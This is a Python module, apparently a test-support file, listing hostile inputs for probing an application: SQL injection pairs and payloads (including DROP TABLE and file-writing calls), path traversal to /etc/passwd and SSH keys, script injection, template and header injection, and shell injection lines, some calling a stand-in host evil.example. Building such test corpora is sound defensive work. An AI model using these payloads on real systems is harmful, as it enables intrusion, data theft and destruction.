"""What attackers and unlucky sources send: for addresses, form fields, headers, and for the fields of a record.

The SQL pairs are those of sqlmap's boolean tests of level 1 (a condition that is true, one that is false, which a
sound program answers alike), with its time-based ones for SQLite; the rest are the usual sets of each kind, by hand.
"""

from __future__ import annotations

import json
from pathlib import Path

NAUGHTY = Path(__file__).resolve().parents[1] / "data" / "naughty-strings" / "blns.json"
MARK = "zq7x"
"""Stands in what is sent, so that what comes back is recognised."""

SQL_PAIRS = (
    ("' OR '1'='1", "' AND '1'='2"),
    ("' OR 1=1-- -", "' AND 1=2-- -"),
    ('" OR "1"="1', '" AND "1"="2'),
    ("') OR ('1'='1", "') AND ('1'='2"),
    ("1 OR 1=1", "1 AND 1=2"),
    ("%' OR '%'='", "%' AND '%'='x"),
    ("' OR x'61'='a", "' OR x'61'='b"),
    ("' OR EXISTS(SELECT 1 FROM patient) OR '1'='2", "' OR EXISTS(SELECT 1 FROM nothing) OR '1'='2"),
)
SQL = (
    "' UNION SELECT NULL,NULL,NULL,NULL,NULL,NULL-- -",
    "' UNION SELECT birth_name FROM patient-- -",
    "'; ATTACH DATABASE '/tmp/x.db' AS x; CREATE TABLE x.y(z);-- -",
    "'; DROP TABLE patient;-- -",
    "' AND 1=LIKE('A',UPPER(HEX(RANDOMBLOB(500000000/2))))-- -",
    "' || (SELECT load_extension('x')) || '",
    "' AND (SELECT writefile('/tmp/x','y'))='",
    "* NEAR/2 a* OR {birth_name}:a",
    '" AND a* OR "',
    "%_%_%",
)
PATHS = (
    "../../../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "%252e%252e%252fetc%252fpasswd",
    "..\\..\\..\\windows\\win.ini",
    "..%5c..%5cwindows%5cwin.ini",
    "....//....//etc/passwd",
    "%c0%ae%c0%ae/etc/passwd",
    "/etc/passwd",
    "//evil.example/x",
    "file:///etc/passwd",
    "C:\\windows\\win.ini",
    "con",
    "vault.toml%00.css",
    "..;/vault.toml",
    "~root/.ssh/id_rsa",
)
OUTSIDE = ("root:x:0:0", "[extensions]", "for 16-bit app support", "BEGIN OPENSSH")
"""What stands in those files."""

SCRIPTS = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "<svg/onload=alert(1)>",
    "</textarea></style></script><script>alert(1)</script>",
    "javascript:alert(1)",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>Imprimer",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<style>@import '//evil.example/x.css';</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u2028<script>alert(1)</script>\u2029",
    "<scr\0ipt>alert(1)</scr\0ipt>",
)
TEMPLATES = (
    "{{7*1313131}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{config.items()}}",
    "${7*1313131}",
    "#{7*1313131}",
    "%(7)s %s %n {0} {0.__class__}",
)
WORKED = ("9191917", "SECRET_KEY", "subprocess.Popen")
"""What those templates give where they run."""

HEADERS = (
    "x\r\nSet-Cookie: stolen=1",
    "x\r\n\r\n<script>alert(1)</script>",
    "x\nLocation: http://evil.example/",
    "%0d%0aSet-Cookie:%20stolen=1",
    "\u560d\u560aSet-Cookie: stolen=1",
)
ODD = (
    "",
    " ",
    "\0",
    "\0" * 100,
    "\ud7ff\ue000\ufffd",
    "-1",
    "9" * 400,
    "1e999",
    "null",
    "[]",
    "{}",
    "\u202e\u2066",
    "é" * 4000,
)
SHELL = ("$(touch /tmp/x)", "`id`", "; cat /etc/passwd", "| id", '"&&id', "${jndi:ldap://evil.example/x}")


def naughty() -> tuple[str, ...]:
    """The Big List of Naughty Strings."""
    found: list[str] = json.loads(NAUGHTY.read_text(encoding="utf-8"))
    return tuple(found)


def attacks() -> tuple[str, ...]:
    """Those that are meant to do something."""
    pairs = tuple(one for pair in SQL_PAIRS for one in pair)
    return (*pairs, *SQL, *PATHS, *SCRIPTS, *TEMPLATES, *HEADERS, *ODD, *SHELL)


def everything() -> tuple[str, ...]:
    """Attacks, and the strings that are merely unlucky."""
    return (*attacks(), *naughty())
